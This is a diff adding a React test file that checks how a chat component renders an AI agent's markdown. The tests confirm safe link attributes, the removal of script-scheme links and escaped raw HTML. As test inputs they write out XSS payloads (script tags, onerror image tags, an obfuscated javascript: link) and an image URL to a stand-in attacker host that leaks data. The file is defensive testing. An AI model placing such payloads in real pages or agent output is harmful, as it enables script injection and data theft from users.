@@ -1,0 +1,111 @@
+import { screen } from "@testing-library/react";
+import { chatMessage } from "../../src/react/components/test-utils/scripted-chat";
+import { renderChat } from "./render-chat";
+
+function renderAnswer(text: string, markdown = true) {
+  return renderChat({ messages: [chatMessage({ role: "assistant", text })], props: { markdown } });
+}
+
+interface MdNode {
+  type: string;
+  value?: string;
+  children?: MdNode[];
+}
+
+function walk(node: MdNode, visit: (node: MdNode) => void): void {
+  visit(node);
+  node.children?.forEach((child) => walk(child, visit));
+}
+
+/** A remark plugin that shouts every text node. */
+const shout = () => (tree: MdNode) =>
+  walk(tree, (node) => {
+    if (node.type === "text" && node.value) node.value = node.value.toUpperCase();
+  });
+
+/** A remark plugin that tries to inject raw HTML. */
+const injectHtml = () => (tree: MdNode) => {
+  tree.children?.push({ type: "html", value: '<img src=x onerror="window.__pwned=1">' });
+};
+
+describe("markdown", () => {
+  it("renders agent markdown once the markdown module has loaded", async () => {
+    renderAnswer("Some **bold** text and `code`.\n\n```js\nconst x = 1;\n```");
+    expect(await screen.findByText("bold", { selector: "strong" })).toBeInTheDocument();
+    expect(screen.getByText("code", { selector: "code" })).toBeInTheDocument();
+    expect(document.querySelector("pre code")).toHaveTextContent("const x = 1;");
+  });
+
+  it("leaves user messages as plain text", async () => {
+    renderChat({
+      messages: [
+        chatMessage({ role: "user", text: "**mine**" }),
+        chatMessage({ role: "assistant", text: "**theirs**" }),
+      ],
+      props: { markdown: true },
+    });
+    await screen.findByText("theirs", { selector: "strong" });
+    expect(screen.getByText("**mine**")).toBeInTheDocument();
+  });
+
+  it("opens links in a new tab without an opener", async () => {
+    renderAnswer("See [the docs](https://example.com/docs).");
+    const link = await screen.findByRole("link", { name: "the docs" });
+    expect(link).toHaveAttribute("href", "https://example.com/docs");
+    expect(link).toHaveAttribute("target", "_blank");
+    expect(link).toHaveAttribute("rel", "noopener noreferrer");
+  });
+
+  it("drops javascript:, data: and vbscript: links, keeping their text", async () => {
+    renderAnswer(
+      "[one](javascript:alert(1)) [two](data:text/html,<b>x</b>) [three](vbscript:x) [four](java&#x09;script:alert(1))",
+    );
+    await screen.findByText("one");
+    expect(screen.queryAllByRole("link")).toEqual([]);
+    expect(document.querySelectorAll("[href]")).toHaveLength(0);
+    for (const text of ["one", "two", "three", "four"])
+      expect(screen.getByText(text)).toBeInTheDocument();
+  });
+
+  it("shows HTML in markdown as text, never as elements", async () => {
+    renderAnswer(
+      'Hello <script>window.__pwned = 1</script> <img src=x onerror="window.__pwned = 1"> **there**',
+    );
+    await screen.findByText("there", { selector: "strong" });
+    const answer = document.querySelector(".acr-markdown")!;
+    expect(answer.querySelector("script, img, iframe")).toBeNull();
+    expect(answer).toHaveTextContent("<script>window.__pwned = 1</script>");
+  });
+
+  it("turns images into links so agent output cannot make the browser fetch on its own", async () => {
+    renderAnswer("![a chart](https://attacker.example/leak?data=secret)");
+    const link = await screen.findByRole("link", { name: "a chart" });
+    expect(link).toHaveAttribute("href", "https://attacker.example/leak?data=secret");
+    expect(document.querySelector("img")).toBeNull();
+  });
+
+  it("applies remark plugins given in the markdown options", async () => {
+    renderChat({
+      messages: [chatMessage({ role: "assistant", text: "quiet **words**" })],
+      props: { markdown: { remarkPlugins: [shout] } },
+    });
+    expect(await screen.findByText("WORDS", { selector: "strong" })).toBeInTheDocument();
+  });
+
+  it("keeps HTML a plugin injects as text", async () => {
+    renderChat({
+      messages: [chatMessage({ role: "assistant", text: "hello **there**" })],
+      props: { markdown: { remarkPlugins: [injectHtml] } },
+    });
+    await screen.findByText("there", { selector: "strong" });
+    expect(document.querySelector(".acr-markdown img")).toBeNull();
+    expect(document.querySelector(".acr-markdown")).toHaveTextContent(
+      '<img src=x onerror="window.__pwned=1">',
+    );
+  });
+
+  it("is off by default", () => {
+    renderAnswer("Some **bold** text", false);
+    expect(screen.getByText("Some **bold** text")).toBeInTheDocument();
+  });
+});
